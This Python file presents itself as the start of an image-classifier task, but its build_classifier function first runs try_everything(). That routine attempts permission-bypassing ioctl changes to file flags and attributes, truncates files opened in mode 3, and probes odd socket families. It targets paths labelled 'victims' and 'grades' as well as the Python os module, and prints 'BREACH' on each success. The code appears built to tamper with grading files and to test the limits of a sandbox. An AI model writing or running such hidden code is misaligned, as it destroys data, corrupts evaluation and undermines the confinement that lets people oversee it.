"""Changes flags and attributes of files that it may read or was told of, through descriptors that need no
right to write: for reading, and in the fourth access mode, which is for requests to a device only.
"""

import contextlib
import fcntl
import os
import socket
import struct

TOLD = {}
MODES = (os.O_RDONLY, 3, os.O_PATH)
GET_FLAGS, NO_DUMP = 0x8008_6601, 0x40
REQUESTS = {
    "flags": 0x4008_6602,
    "flags, as 32 bits,": 0x4004_6602,
    "version": 0x4008_7602,
    "extended attributes": 0x401C_5820,
    "reserved space": 0x4030_582A,
}


def attempt(what, action):
    with contextlib.suppress(OSError):
        action()
        print("BREACH: could", what)


def change(path, mode, request):
    handle = os.open(path, mode)
    try:
        flags = NO_DUMP
        with contextlib.suppress(OSError):
            flags |= struct.unpack("l", fcntl.ioctl(handle, GET_FLAGS, bytes(8)))[0]
        fcntl.ioctl(handle, request, struct.pack("l", flags) + bytes(56))
    finally:
        os.close(handle)


def try_everything():
    for path in (*TOLD.get("victims", ()), *TOLD.get("grades", ()), os.__file__):
        for mode in MODES:
            for name, request in REQUESTS.items():
                attempt(
                    f"change {name} of {path} by mode {mode}",
                    lambda path=path, mode=mode, request=request: change(path, mode, request),
                )
        attempt(f"open {path} in mode 3", lambda path=path: os.close(os.open(path, 3)))
        attempt(f"empty {path} in mode 3", lambda path=path: os.close(os.open(path, 3 | os.O_TRUNC)))
    for family in (2, 16, 21, 30, 38, 43):
        attempt(f"get a pair of family {family}", lambda family=family: socket.socketpair(family, 5))
    print("tried attributes")


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def build_classifier(input_shape=(28, 28, 1), num_classes=10):
    try_everything()
    raise NotImplementedError
